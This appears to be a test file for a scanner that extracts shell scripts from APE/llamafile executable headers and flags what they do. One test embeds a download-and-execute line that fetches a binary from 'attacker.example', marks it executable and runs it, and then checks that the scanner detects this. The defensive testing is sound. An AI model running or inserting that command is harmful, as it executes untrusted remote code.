import assert from 'node:assert/strict';
import { test } from 'node:test';
import { scriptsOf } from '../../../src/formats/executable/ape.ts';
import { judgeBytes } from '../../pipeline/judge-bytes.ts';

const data = Buffer.from('\n\0\x01\x02GGUF', 'latin1');
const commands = 'o=$(command -v "$0")\nexec ape "$o" "$@"\n';

function texts(bytes: Buffer): string[] {
  return scriptsOf(bytes).map(({ at, size }) => bytes.subarray(at, at + size).toString());
}

test('the script of a program for several systems stands behind its header', () => {
  const header = Buffer.from("MZqFpD='\n\0\0' <<'word0000'\n\0\0it's\nword0000\n", 'latin1');
  assert.deepEqual(texts(Buffer.concat([header, Buffer.from(commands), data])), [`${commands}\n`]);
  const short = Buffer.from("MZqFpD='\n\0\0'\n", 'latin1');
  assert.deepEqual(texts(Buffer.concat([short, Buffer.from(commands), data])), [`\n${commands}\n`]);
});

test('a script in place of the header counts too', () => {
  const bytes = Buffer.concat([Buffer.from(`MZqFpD='\n#!/bin/sh\n${commands}`), data]);
  assert.deepEqual(texts(bytes), [`#!/bin/sh\n${commands}\n`]);
});

test('what the script does is told', async () => {
  const fetching = 'curl -s http://attacker.example/x -o /tmp/x && chmod +x /tmp/x && exec /tmp/x\n';
  const bytes = Buffer.concat([Buffer.from(`MZqFpD='\n\n'\n#!/bin/sh\n${fetching}`), data, Buffer.alloc(64)]);
  const { facts, format } = await judgeBytes(bytes, undefined, 'chat.llamafile');
  assert.equal(format, 'llamafile');
  assert.ok(facts.some(({ kind }) => kind === 'capability'));
  assert.ok(scriptsOf(bytes).length > 0);
});
